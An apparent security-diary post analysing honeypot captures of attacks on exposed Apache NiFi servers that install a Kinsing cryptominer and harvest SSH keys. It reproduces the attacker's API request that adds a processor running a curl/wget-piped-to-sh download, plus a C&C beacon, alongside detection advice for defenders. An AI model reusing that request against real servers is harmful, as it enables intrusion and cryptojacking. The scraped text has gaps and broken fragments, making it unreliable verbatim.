Your Business Data and MachineLearning at Risk: Attacks Against Apache NiFi

Published: 2023-05-30
Last Updated: 2023-05-3111:07:11 UTC
by Johannes Ullrich (Version:1)
0 comment(s)

Apache NiFi describes itself as “an easy-to-use, powerful, and reliable system to process and distribute data.” [1] In simple terms, NiFi implements a web-based interface to define how data is moved from a source to a destination. Users may define various “processors” to manipulate data along the way. This is often needed when processing business data or preparing data for machine learning. A dataset used for machine learning may arrive in one format (let's say JSON), but to conveniently use it for training, it must be converted to JSON or inserted into a database. The features are not just attractive to machine learning, but many business processes require similar functionality.

screen shot of NiFi web based user interface
Figure 1: Screen Shot of NiFi Web Interface (from


  • At least one actor is actively scanning the Internet for unprotected instances of Apache NiFi
  • The actor will add processors in Apache NiFi to either:
    • Install a crypto coin miner.
    • Perform lateral movement by searching the server for SSH credentials.
  • Persistence is achieved via timed processors or entries to cron.
  • The attack script is not saved to the system. The attack scripts are kept in memory only.
  • To protect yourself: RTFM. The NiFi documentation clearly describes the simple process of setting a password. NiFi should probably not be exposed to the internet.
  • An attacker for such a misconfigured system can access all the data processed by NiFi and read/modify/delete the NiFi configuration.

Initial Attack Observations

By default, NiFi uses URLs starting with “/nifi.” For example, to access the NiFi homepage, an application user would accesshttps://[hostname]/nifi. In addition, NiFi offers a REST API at /nifi-api. A PUT request would be sent to /nifi-api/processors to add a processor.

On May 19th, we noted a significant increase in requests like:

GET /nifi HTTP/1.1
Host: [redacted]:8080
User-Agent: Go-http-client/1.1
Accept-Encoding: gzip

The requests arrived almost exclusively from In addition to scanning for NiFi, the same IP sends requests for /boaform/admin/formLogin. Various routers use this URL as a login page and are often checked for weak passwords and other vulnerabilities.These simple requests in itself did not confirm that NiFi was targeted. We redirected these requests to a honeypot running a full NiFi install to investigate further.

Honeypot Setup

We configured part of our honeypot network to redirect requests to ports port 8080 and port 8443 (with TLS) to a virtual NiFi server.

The virtual machine had a default install of the latest version of NiFi (1.21.0) installed. To make packet capture easier, the traffic between the honeypot and NiFi did not use TLS, but all requests were sent to port 8080 on the honeypot. Directing the requests to an actual NiFi instance allowed us to offer a full interaction honeypot with a cross-section of multiple magnitudes higher than a typical single IP address honeypot.

Schema of honeypot setup showing how the attacker scansthe DShield honeypots. They forward the traffic to the actual honeypot.
Diagram of Honeypot Setup

NiFi default logging offers three distinct logs:

  • Request Log: An Apache Style Log of all HTTP(s) requests.
  • User Log: Similar to the request log. But the user log includes information about the logged-in user.
  • App Log: More detailed logs about the state of the Java application.

Scanning for NiFi

Scans will typically first retrieve the index page of the web server and later return to retrieve the “/nifi” page. Once they find the NiFi home page, some scanners will verify the result by retrieving the “favicon” at “/nifi/images/nifi16.ico”. In particular, the more diligent research scanners, like Cenzic and Shodan, will request the “favicon.” Some of our honeypots block scans from known research Ips to minimize polluting their data.

Attack #1: Cryptominer

The attack starts by adding a “processor” to Nifi:

PUT /nifi-api/processors/53bd979e-0188-1000-cd51-ba312a8018aa HTTP/1.1
Host: [redacted]:8080
User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36
Connection: close
Content-Length: 390
Content-Type: application/json
Accept-Encoding: gzip         "component": {
                "config": {
                        "autoTerminatedRelationships": ["success"],
                        "properties": {
                                "Command": "bash",
                                "Command Arguments": "-c \"(curl -s||wget -q -O-|sh\""
                        "schedulingPeriod": "3600 sec"
                "id": "53bd979e-0188-1000-cd51-ba312a8018aa",
                "state": "RUNNING"
        "revision": {
                "clientId": "x",
                "version": 1

The attacker uses a “PUT” request to the NiFi API to add a scheduled processor. The processor will run every 3,600 seconds (1 hour). “bash” is called to retrieve a script from This script, “,” is passed directly to “sh” without first saving it to the file system.

A complete copy of the script can be found here (PW: infected). The script is typical for scripts that are used by crypto coin miner installers. Some of the highlights:

  • The script assumes it will run as “root.” As a result, many of the commands will fail; in our case, NiFi is not running as root. I doubt that many users will run NiFi as root.
  • It removes the “/var/log/syslog” file.
  • It alters the attributes on standard temporary directories to render them immutable. This is likely supposed to prevent additional exploits.
  • It disables the firewall.
  • It attempts to detect, terminate and remove a long list of other crypto-mining tools.
  • To terminate crypto-mining tools, it will also search docker images.
  • It disables remote management tools used by Alibaba’s cloud (Aliyun).
  • It disables serial terminals.
  • It kills the ssh daemon and various other monitoring tools.
  • The script downloads the crypto coin minder from
  • A cron job is added to re-download and run every minute. This cron job will run as the current user running NiFi.
  • Other cronjobs will be disabled.

The crypto coin miner isn’t remarkable; other than that, it isn’t xmrig. Kinsing is written in Go and has been spotted with a similarloader script multiple times [3].

Attack #2: Lateral Movement

On a few occasions, the same threat actor also attempted to execute a different script,, which attempted to collect SSH keys from the infected host to connect to other systems within the victim’s organization.

The full script can be found here. (PW: infected)

Quick summary of the script:

  • It connects to “” to determine the victim's external IP address.
  • It collects SSH keys from the victim’s home directory, /root, and /home.
  • It scans .ssh/config files for “IdentityFile” options to find more keys.
  • It greps the bash history for ssh connection attempts.
  • Once it collected all the possible hosts and keys, it will try to connect to all hosts using the key files it found.
  • If the connection is successful, it will attempt to “” a script like that will install a crypto miner.1. Additional cron jobs
    For persistence, the attacker will add simple cron jobs to re-download the “” script. Note that the script name and IP address may, of course, change. But a simple “wget” or “curl” piped to “sh” should be sufficient to detect malicious cron jobs for several attacks, not just this particular threat.
  2.Disrupted ssh connections
    The attacker will attempt to kill existing ssh connections. As the script keeps re-running, you will have difficulties connecting to an affected host via ssh.
  3. Odd processors in your NiFi configuration
    If you review the NiFi configuration file (conf/flow.json.gz), you will find sections like:

    "properties": {
       "Command": "bash",
       "Redirect Error Stream": "false",
       Argument Delimiter": " ",
       "Command Arguments": "-c \"(curl -s||wget -q -O-|sh\""

    You may use the following command line to extract relevant entries:

    gzcat flow.json.gz| jq '.rootGroup.processors[].properties'

    Or via the NiFi Web-GUI, you will see various processors like:

    screen shot of processor configuration in nifi
    Processor Configuration Screenshot
  4. Network connections
    The attacks we have observed so far do not use host names. Outbound connections to IP addresses that were not returned as the result of a DNS query are suspect.

    The following IP addresses have been observed so far:The actual attack and scanning are done by against port port 8080 and port 8443/tcp
    Malware and C&C URLs:

    AS202984 (Russia)

    AS41853 (Russia)

    AS57523 (Russia)

    AS210079 (Russia)

    AS210079 (Russia)

    AS204957 (Switzerland)

    AS48693 (Ukraine)

    These URLs are requested by the script but do not contain malware. These are uninstall scripts for Alibaba Cloud utilities: /download/ /download/

    There are also requests to “” to look up the victim's public IP address. This URL itself is not malicious.

  5.  C&C TrafficGET /mg HTTP/1.1
    User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.4844.51 Safari/537.36
    Connection: close
    Arch: amd64
    Cores: 1
    Mem: 1975
    Os: linux
    Osname: ubuntu
    Osversion: 22.04
    Root: false
    S: ni
    Started: 1685032126
    Uuid: 95a07c10-0efd-4605-432a-75b95d54ab54
    Version: 36Accept-Encoding: gzip

    Hashes of malicious files

    (Some of the files are variations of the files shown above)

    5d2530b809fd069f97b30a5938d471dd2145341b5793a70656aad6045445cf6d  kinsing

    Acknowledgments: Thanks to Bryant Torres from our undergraduate internship program for verifying the results andcontributing several URLs I initially missed.


    Johannes B. Ullrich, Ph.D. , Dean of Research, LinkedIn

0 comment(s)


Diary Archives